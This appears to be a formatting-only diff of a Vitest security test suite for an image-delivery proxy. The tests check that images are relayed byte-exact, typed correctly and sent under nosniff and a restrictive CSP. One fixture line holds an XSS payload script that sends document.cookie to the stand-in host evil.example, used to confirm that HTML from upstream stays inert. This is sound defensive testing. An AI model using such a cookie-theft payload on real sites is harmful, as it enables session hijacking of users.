@@ -4,7 +4,12 @@
 // downloaded). In-process (app.request) and inside workerd, against a scripted upstream that records every request.
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startNodeProxy, startWorkerdProxyAsync, type ProxyUnderTest, type UpstreamAnswer } from '../security/support/proxy-under-test';
+import {
+  startNodeProxy,
+  startWorkerdProxyAsync,
+  type ProxyUnderTest,
+  type UpstreamAnswer,
+} from '../security/support/proxy-under-test';
 
 const SAMPLE = 'https://delivery-eu1.bfl.ai/results/t/sample.png?se=1&sig=2';
 const DELIVERY = `/delivery?u=${encodeURIComponent(SAMPLE)}`;
@@ -14,7 +19,10 @@ const HTML = '<!doctype html><script>fetch("https://evil.example/?"+document.coo
 let answerNext: UpstreamAnswer = () => new Response(IMAGE, { headers: { 'Content-Type': 'image/png' } });
 
 const runtimes: [string, () => Promise<ProxyUnderTest>][] = [
-  ['Node (app.request)', async () => startNodeProxy({ upstream: 'https://api.bfl.ai', answer: (call) => answerNext(call) })],
+  [
+    'Node (app.request)',
+    async () => startNodeProxy({ upstream: 'https://api.bfl.ai', answer: (call) => answerNext(call) }),
+  ],
   ['workerd', () => startWorkerdProxyAsync({ upstream: 'https://api.bfl.ai', answer: (call) => answerNext(call) })],
 ];
 
@@ -38,17 +46,21 @@ describe.each(runtimes)('deliveries on %s', (_runtime, startAsync) => {
     ['image/jpeg', 'image/jpeg'],
     ['image/webp', 'image/webp'],
     ['IMAGE/PNG; charset=binary', 'image/png'],
-  ])('relays %s as exactly the image bytes, typed %s, nosniff and under a CSP that allows nothing', async (upstreamType, relayedType) => {
-    answerNext = () => new Response(IMAGE, { headers: { 'Content-Type': upstreamType, 'Content-Length': String(IMAGE.length) } });
-    const res = await proxy.requestAsync(DELIVERY);
-    expect(res.status).toBe(200);
-    expect(res.headers.get('content-type')).toBe(relayedType);
-    expectInert(res);
-    const bytes = new Uint8Array(await res.arrayBuffer());
-    expect(Buffer.from(bytes).equals(Buffer.from(IMAGE))).toBe(true);
-    const length = res.headers.get('content-length');
-    if (length !== null) expect(Number(length)).toBe(IMAGE.length);
-  });
+  ])(
+    'relays %s as exactly the image bytes, typed %s, nosniff and under a CSP that allows nothing',
+    async (upstreamType, relayedType) => {
+      answerNext = () =>
+        new Response(IMAGE, { headers: { 'Content-Type': upstreamType, 'Content-Length': String(IMAGE.length) } });
+      const res = await proxy.requestAsync(DELIVERY);
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toBe(relayedType);
+      expectInert(res);
+      const bytes = new Uint8Array(await res.arrayBuffer());
+      expect(Buffer.from(bytes).equals(Buffer.from(IMAGE))).toBe(true);
+      const length = res.headers.get('content-length');
+      if (length !== null) expect(Number(length)).toBe(IMAGE.length);
+    },
+  );
 
   it.each([
     ['text/html', HTML],
@@ -71,7 +83,11 @@ describe.each(runtimes)('deliveries on %s', (_runtime, startAsync) => {
   });
 
   it('relays an expired link as its status without the upstream body, so the client still reports it as expired', async () => {
-    answerNext = () => new Response('<?xml version="1.0"?><Error><Code>AuthenticationFailed</Code></Error>', { status: 403, headers: { 'Content-Type': 'application/xml' } });
+    answerNext = () =>
+      new Response('<?xml version="1.0"?><Error><Code>AuthenticationFailed</Code></Error>', {
+        status: 403,
+        headers: { 'Content-Type': 'application/xml' },
+      });
     const res = await proxy.requestAsync(DELIVERY);
     expect(res.status).toBe(403);
     expectInert(res);
@@ -112,7 +128,10 @@ describe('a gzip-encoded delivery on workerd', () => {
 
   it('reaches the client as exactly the image bytes, with no stale length or encoding', async () => {
     const gzipped = gzipSync(IMAGE);
-    answerNext = () => new Response(gzipped, { headers: { 'Content-Type': 'image/png', 'Content-Encoding': 'gzip', 'Content-Length': String(gzipped.length) } });
+    answerNext = () =>
+      new Response(gzipped, {
+        headers: { 'Content-Type': 'image/png', 'Content-Encoding': 'gzip', 'Content-Length': String(gzipped.length) },
+      });
     const res = await proxy.requestAsync(DELIVERY);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-encoding')).toBeNull();
